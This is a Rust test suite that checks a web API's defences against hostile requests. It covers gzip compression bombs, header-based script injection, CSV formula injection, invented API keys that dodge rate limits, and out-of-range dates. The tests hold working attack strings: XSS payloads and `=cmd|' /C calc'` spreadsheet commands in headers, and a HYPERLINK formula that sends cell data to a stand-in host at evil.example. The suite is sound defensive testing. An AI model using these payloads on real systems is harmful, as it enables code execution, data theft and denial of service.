//! Hostile inputs, as an outsider or a key-holder would send them: what the
//! server must refuse cheaply, and what it must never echo.

use std::io::Write;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use futures_util::{stream, StreamExt};
use poem::http::Method;
use poem::Body;
use serde_json::{json, Value};

use crate::helpers::fixtures::session_json;
use crate::helpers::{assert_problem, Settings, TestApp};

/// `decoded` bytes of JSON whitespace inside `{}`, gzip-compressed: the
/// shape of a compression bomb (about 1,000 × smaller than it inflates).
fn gzip_bomb(decoded: usize) -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    enc.write_all(b"{").unwrap();
    let spaces = vec![b' '; 1 << 20];
    let mut left = decoded;
    while left > 0 {
        let n = left.min(spaces.len());
        enc.write_all(&spaces[..n]).unwrap();
        left -= n;
    }
    enc.write_all(b"}").unwrap();
    enc.finish().unwrap()
}

/// `bytes` as a chunked body (no `Content-Length`) that counts how much of
/// it the server pulled.
fn counted(bytes: Vec<u8>) -> (Body, Arc<AtomicU64>) {
    let pulled = Arc::new(AtomicU64::new(0));
    let seen = pulled.clone();
    let chunks: Vec<Vec<u8>> = bytes.chunks(4096).map(<[u8]>::to_vec).collect();
    let body = Body::from_bytes_stream(stream::iter(chunks).map(move |c| {
        seen.fetch_add(c.len() as u64, Ordering::SeqCst);
        Ok::<_, std::io::Error>(c)
    }));
    (body, pulled)
}

const GZIP_JSON: [(&str, &str); 2] = [
    ("content-type", "application/json"),
    ("content-encoding", "gzip"),
];

#[tokio::test]
async fn a_write_body_is_not_read_before_its_key_is_checked() {
    let app = TestApp::new().await;
    let bomb = gzip_bomb(64 << 20);
    let municipal = app.key(Some("1980")).await;
    let other = format!("Bearer {municipal}");
    let cases: [(Method, &str, Option<&str>, u16); 5] = [
        (Method::PUT, "/v1/programmes/abc", Some("Bearer nope"), 401),
        (Method::PUT, "/v1/programmes/abc", None, 401),
        (Method::PUT, "/v1/programmes/abc", Some(&other), 403),
        (
            Method::POST,
            "/v1/municipalities/1980/sessions/batch",
            Some("Bearer fst_unknown"),
            401,
        ),
        (
            Method::PUT,
            "/v1/municipalities/1961/sessions/X-1",
            Some(&other),
            403,
        ),
    ];
    for (method, uri, auth, expected) in cases {
        let (body, pulled) = counted(bomb.clone());
        let mut headers = GZIP_JSON.to_vec();
        if let Some(auth) = auth {
            headers.push(("authorization", auth));
        }
        let reply = app
            .request_with_body(method.clone(), uri, &headers, body)
            .await;
        assert_eq!(reply.status.as_u16(), expected, "{method} {uri} {auth:?}");
        assert_eq!(
            pulled.load(Ordering::SeqCst),
            0,
            "{method} {uri} {auth:?}: the body was read before the key was refused"
        );
    }
}

#[tokio::test]
async fn a_compressed_body_is_bounded_as_it_inflates() {
    let app = TestApp::with_settings(Settings {
        max_body_bytes: 4 << 20,
        read_rate_per_minute: 0,
        write_rate_per_minute: 0,
        ..Settings::default()
    })
    .await;
    let admin = app.key(None).await;
    let auth = format!("Bearer {admin}");
    let bomb = gzip_bomb(256 << 20);
    let sent = bomb.len() as u64;

    // Chunked: only the decoded limit applies, and reading stops at it.
    let (body, pulled) = counted(bomb.clone());
    let mut headers = GZIP_JSON.to_vec();
    headers.push(("authorization", &auth));
    let reply = app
        .request_with_body(Method::PUT, "/v1/programmes/abc", &headers, body)
        .await;
    let problem = assert_problem(&reply, 413, "/v1/programmes/abc");
    assert_eq!(
        problem["type"],
        "http://localhost/problems/payload-too-large"
    );
    assert!(
        reply.json()["detail"]
            .as_str()
            .is_some_and(|d| d.contains("decoded")),
        "{}",
        reply.text()
    );
    assert!(
        pulled.load(Ordering::SeqCst) < sent / 8,
        "the server stopped inflating at the limit: it pulled {} of {sent} bytes",
        pulled.load(Ordering::SeqCst)
    );

    // With its length declared, the ratio caps it far below the limit.
    let length = sent.to_string();
    let mut headers = GZIP_JSON.to_vec();
    headers.push(("authorization", &auth));
    headers.push(("content-length", &length));
    let (body, pulled) = counted(bomb);
    let reply = app
        .request_with_body(Method::PUT, "/v1/programmes/abc", &headers, body)
        .await;
    assert_eq!(
        assert_problem(&reply, 413, "/v1/programmes/abc")["type"],
        "http://localhost/problems/payload-too-large"
    );
    assert!(pulled.load(Ordering::SeqCst) < sent / 8);

    // An ordinary compressed write still works.
    let mut programme = app.get("/v1/programmes/abc").await.ok_json();
    for field in ["slug", "updated_at"] {
        programme.as_object_mut().unwrap().remove(field);
    }
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(&serde_json::to_vec(&programme).unwrap())
        .unwrap();
    let mut headers = GZIP_JSON.to_vec();
    headers.push(("authorization", &auth));
    let reply = app
        .request_with_body(
            Method::PUT,
            "/v1/programmes/abc",
            &headers,
            Body::from_vec(enc.finish().unwrap()),
        )
        .await;
    assert_eq!(reply.status, 200, "{}", reply.text());
}

#[tokio::test]
async fn a_declared_length_over_the_limit_is_refused_unread() {
    let app = TestApp::with_settings(Settings {
        max_body_bytes: 1000,
        read_rate_per_minute: 0,
        write_rate_per_minute: 0,
        ..Settings::default()
    })
    .await;
    let key = app.key(Some("1980")).await;
    let auth = format!("Bearer {key}");
    let (body, pulled) = counted(vec![b' '; 5000]);
    let reply = app
        .request_with_body(
            Method::POST,
            "/v1/municipalities/1980/sessions/batch",
            &[
                ("content-type", "application/json"),
                ("content-length", "5000"),
                ("authorization", &auth),
            ],
            body,
        )
        .await;
    assert_eq!(
        assert_problem(&reply, 413, "/v1/municipalities/1980/sessions/batch")["type"],
        "http://localhost/problems/payload-too-large"
    );
    assert_eq!(pulled.load(Ordering::SeqCst), 0);
}

#[tokio::test]
async fn a_batch_with_thousands_of_errors_lists_the_first_hundred_and_counts_all() {
    let app = TestApp::new().await;
    let key = app.key(Some("1980")).await;
    let sessions: Vec<Value> = (0..400)
        .map(|i| {
            let mut s = session_json(&format!("S-{i}"), "2025-01-01");
            s["end_date"] = json!("2024-01-01");
            s["completed"] = json!(99);
            s
        })
        .collect();
    let body = json!({ "mode": "upsert", "sessions": sessions });
    let reply = app.post_batch(&key, "1980", &body).await;
    let problem = assert_problem(&reply, 422, "/v1/municipalities/1980/sessions/batch");
    assert_eq!(problem["type"], "http://localhost/problems/validation");
    assert_eq!(problem["errors"].as_array().map(Vec::len), Some(100));
    assert_eq!(problem["error_count"], 800, "{}", problem["detail"]);
    assert_eq!(problem["errors"][0]["pointer"], "/sessions/0/end_date");

    // A few errors are listed whole, without a count.
    let body = json!({ "mode": "upsert", "sessions": [sessions[0].clone()] });
    let problem = app.post_batch(&key, "1980", &body).await.json();
    assert_eq!(problem["errors"].as_array().map(Vec::len), Some(2));
    assert!(problem.get("error_count").is_none());
}

/// A key's write budget is the key's, however the client spells `Bearer`:
/// the letter case of the scheme does not buy a fresh budget.
#[tokio::test]
async fn the_write_limit_counts_a_key_once_whatever_the_schemes_letter_case() {
    let app = TestApp::with_settings(Settings {
        read_rate_per_minute: 0,
        write_rate_per_minute: 5,
        ..Settings::default()
    })
    .await;
    let key = app.key(Some("1980")).await;
    let spellings = [
        "Bearer", "bearer", "BEARER", "BeArEr", "bEARER", "BEarer", "beaRER",
    ];
    let mut statuses = Vec::new();
    for (i, scheme) in spellings.iter().enumerate() {
        let body = session_json(&format!("RL-{i}"), "2025-03-01");
        let auth = format!("{scheme} {key}");
        let reply = app
            .request_with_body(
                Method::PUT,
                &format!("/v1/municipalities/1980/sessions/RL-{i}"),
                &[
                    ("Authorization", auth.as_str()),
                    ("Content-Type", "application/json"),
                ],
                body.to_string().into(),
            )
            .await;
        statuses.push(reply.status.as_u16());
    }
    let written = statuses.iter().filter(|s| **s == 201).count();
    assert_eq!(written, 5, "{statuses:?}");
    assert_eq!(statuses[5..], [429, 429], "{statuses:?}");
}

/// Made-up keys (`Bearer v1` … `Bearer v15`) were 15 fresh write budgets:
/// now every unknown key, and no key at all, share one budget per client
/// address, and a real key keeps its own.
#[tokio::test]
async fn inventing_keys_buys_no_writes() {
    let app = TestApp::with_settings(Settings {
        read_rate_per_minute: 0,
        write_rate_per_minute: 3,
        ..Settings::default()
    })
    .await;
    let key = app.key(Some("1980")).await;
    let put = async |auth: Option<String>, n: usize| {
        let body = session_json(&format!("K-{n}"), "2025-03-01").to_string();
        let uri = format!("/v1/municipalities/1980/sessions/K-{n}");
        let mut headers = vec![("Content-Type", "application/json".to_owned())];
        if let Some(auth) = auth {
            headers.push(("Authorization", auth));
        }
        let headers: Vec<(&str, &str)> = headers.iter().map(|(k, v)| (*k, v.as_str())).collect();
        app.request_with_body(Method::PUT, &uri, &headers, body.into())
            .await
            .status
            .as_u16()
    };
    let mut invented = Vec::new();
    for n in 0..8 {
        let auth = (n != 4).then(|| format!("Bearer v{n}"));
        invented.push(put(auth, n).await);
    }
    assert_eq!(invented[..3], [401, 401, 401], "{invented:?}");
    assert!(invented[3..].iter().all(|s| *s == 429), "{invented:?}");
    let real = [100_usize, 101, 102, 103];
    let mut statuses = Vec::new();
    for n in real {
        statuses.push(put(Some(format!("Bearer {key}")), n).await);
    }
    assert_eq!(statuses, [201, 201, 201, 429], "the real key's own budget");
}

/// Nothing from `Host` or `X-Forwarded-Proto` reaches a link unchecked
/// (issue 31, item 3): a Host that is not an authority is a 400, an
/// untrusted X-Forwarded-Proto is ignored, a trusted one must be http(s),
/// and with PUBLIC_BASE_URL the headers are not read at all.
#[tokio::test]
async fn request_headers_never_reach_a_link_unchecked() {
    let app = TestApp::with_demo_sessions(200, 5).await;
    let evil_host = "evil.example\"><script>alert(1)</script>";
    for path in ["/", "/v1/sessions?limit=1", "/v1/catalog"] {
        let reply = app.get_with(path, &[("Host", evil_host)]).await;
        reply.assert_status(poem::http::StatusCode::BAD_REQUEST);
        assert!(!reply.text().contains("<script>alert"), "{path}");
    }
    let proto = "javascript:alert(1)//\"><meta http-equiv=\"refresh\" content=\"0;url=//evil\">";
    let page = app.get_with("/", &[("X-Forwarded-Proto", proto)]).await;
    page.assert_status_is_ok();
    assert!(!page.text().contains("javascript:") && !page.text().contains("http-equiv"));
    let list = app
        .get_with("/v1/sessions?limit=1", &[("X-Forwarded-Proto", proto)])
        .await
        .ok_json();
    assert!(list["next"]
        .as_str()
        .unwrap()
        .starts_with("http://localhost/v1/sessions?"));

    // Behind a trusted proxy the scheme is read, and only http or https.
    let proxied = TestApp::with_settings(Settings {
        trust_forwarded_for: true,
        read_rate_per_minute: 0,
        write_rate_per_minute: 0,
        ..Settings::default()
    })
    .await;
    let reply = proxied
        .get_with("/v1/sessions.ics", &[("X-Forwarded-Proto", proto)])
        .await;
    reply.assert_status(poem::http::StatusCode::BAD_REQUEST);
    let reply = proxied
        .get_with("/", &[("X-Forwarded-Proto", "https")])
        .await;
    assert!(reply.text().contains(r#"href="https://localhost/en/""#));

    // With PUBLIC_BASE_URL, the headers are not read for links at all.
    let fixed = TestApp::with_settings(Settings {
        public_base_url: Some("https://api.example.org".into()),
        read_rate_per_minute: 0,
        write_rate_per_minute: 0,
        ..Settings::default()
    })
    .await;
    let reply = fixed.get_with("/", &[("Host", evil_host)]).await;
    reply.assert_status_is_ok();
    assert!(reply
        .text()
        .contains(r#"href="https://api.example.org/en/""#));
    assert!(!reply.text().contains("evil.example"));
}

/// Exports are spreadsheet-safe (issue 31, item 4): text a spreadsheet would
/// run as a formula is neutralised in CSV, and a client's X-Request-Id is
/// stored only in a strict form.
#[tokio::test]
async fn csv_exports_do_not_carry_formulas_and_request_ids_are_strict() {
    let app = TestApp::new().await;
    let key = app.key(Some("1980")).await;
    let admin = app.key(None).await;
    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    let mut body = session_json("=cmd|' /C calc'!A0", "2025-03-01");
    body["provider"] = serde_json::json!(formula);
    body["area"] = serde_json::json!("-2+3");
    let uri = "/v1/municipalities/1980/sessions/%3Dcmd%7C'%20%2FC%20calc'!A0";
    let reply = app
        .request_with_body(
            Method::PUT,
            uri,
            &[
                ("Authorization", &format!("Bearer {key}")),
                ("Content-Type", "application/json"),
                ("X-Request-Id", "=cmd|'/C calc'!A0"),
            ],
            body.to_string().into(),
        )
        .await;
    assert_eq!(reply.status.as_u16(), 201, "{}", reply.text());
    assert_ne!(
        reply.header("x-request-id"),
        Some("=cmd|'/C calc'!A0"),
        "replaced, not echoed"
    );

    let csv = app
        .get("/v1/sessions?municipality=1980&format=csv")
        .await
        .text();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| row[headers.iter().position(|h| h == name).unwrap()].to_owned();
    assert_eq!(cell("provider"), format!("'{formula}"));
    assert_eq!(cell("external_id"), "'=cmd|' /C calc'!A0");
    assert_eq!(cell("area"), "'-2+3");
    // Numbers stay numbers.
    assert_eq!(cell("enrolled"), "12");
    // The JSON is the data as written.
    let json = app.get("/v1/sessions?municipality=1980").await.ok_json();
    assert_eq!(json["data"][0]["provider"], formula);

    let audit = app.audit(Some(&admin), "format=csv", &[]).await.text();
    assert!(
        !audit.contains("=cmd|'/C calc'!A0,") && !audit.contains(",=cmd"),
        "{audit}"
    );
    assert!(
        !audit
            .lines()
            .any(|l| l.split(',').any(|f| f.starts_with('='))),
        "{audit}"
    );
}

/// Year 0 was a 500 on PostgreSQL (SQLite stored it): every date the API
/// takes is within 1900–2100, refused field by field (422) in a body and as
/// a 400 naming the parameter in a query, on both databases alike.
#[tokio::test]
async fn dates_outside_1900_to_2100_are_refused_everywhere_on_both_databases() {
    let app = TestApp::new().await;
    let key = app.key(Some("1980")).await;
    for date in ["0000-01-01", "1899-12-31", "2101-01-01"] {
        let reply = app
            .put_session(Some(&key), "1980", "Y0", &session_json("Y0", date))
            .await;
        let problem = assert_problem(&reply, 422, "/v1/municipalities/1980/sessions/Y0");
        let errors = problem["errors"].to_string();
        assert!(errors.contains("/start_date"), "{errors}");
        assert!(errors.contains("1900 to 2100"), "{errors}");
        let mut ended = session_json("Y0", "2025-03-01");
        ended["end_date"] = json!(date);
        let reply = app.put_session(Some(&key), "1980", "Y0", &ended).await;
        let problem = assert_problem(&reply, 422, "/v1/municipalities/1980/sessions/Y0");
        assert!(problem["errors"].to_string().contains("/end_date"));

        let listed = app.get(&format!("/v1/sessions?start_from={date}")).await;
        let problem = assert_problem(&listed, 400, "/v1/sessions");
        assert!(
            problem["detail"].to_string().contains("start_from"),
            "{problem}"
        );
        let reach = app.get(&format!("/v1/reach?from={date}")).await;
        assert_eq!(reach.status.as_u16(), 400, "{}", reach.text());
    }
    // The bounds themselves are dates: created, then moved.
    for (date, status) in [("1900-01-01", 201), ("2100-12-31", 200)] {
        let reply = app
            .put_session(Some(&key), "1980", "Y1", &session_json("Y1", date))
            .await;
        assert_eq!(reply.status.as_u16(), status, "{date}: {}", reply.text());
    }
    let stored = app
        .get("/v1/sessions?municipality=1980&format=ndjson")
        .await
        .ndjson();
    assert_eq!(stored.len(), 1, "nothing refused was written");
    assert_eq!(stored[0]["start_date"], "2100-12-31");
}

/// A made-up `Authorization` on a public read used to pass the response
/// cache by (a fresh query every time, and an answer kept for nobody): now
/// a key on a read must be a key. Anonymous reads need none, a real key is
/// served privately, anything else is 401 and costs no query of the data.
#[tokio::test]
async fn a_made_up_key_on_a_read_is_refused_and_never_reaches_the_cache() {
    let app = TestApp::new().await;
    let key = app.key(Some("1980")).await;
    let uri = "/v1/reach?group_by=municipality";
    let entries = app.metric("response_cache_entries").await;
    for junk in [
        "Bearer nope",
        "Bearer fst_abcdefgh_0123456789abcdef0123456789abcdef",
        "Basic YTpi",
        "x",
    ] {
        let reply = app.get_with(uri, &[("Authorization", junk)]).await;
        let problem = assert_problem(&reply, 401, "/v1/reach");
        assert!(
            problem["detail"]
                .as_str()
                .is_some_and(|d| d.contains("key") || d.contains("Authorization")),
            "{problem}"
        );
        assert!(reply.header("www-authenticate").is_some());
    }
    assert_eq!(
        app.metric("response_cache_entries").await,
        entries,
        "nothing kept"
    );
    for scheme in ["Bearer", "bearer", "BEARER"] {
        let reply = app
            .get_with(uri, &[("Authorization", &format!("{scheme} {key}"))])
            .await;
        assert_eq!(reply.status, 200, "{scheme}");
        assert_eq!(reply.header("cache-control"), Some("private, no-cache"));
    }
    assert_eq!(app.get(uri).await.status, 200);
}
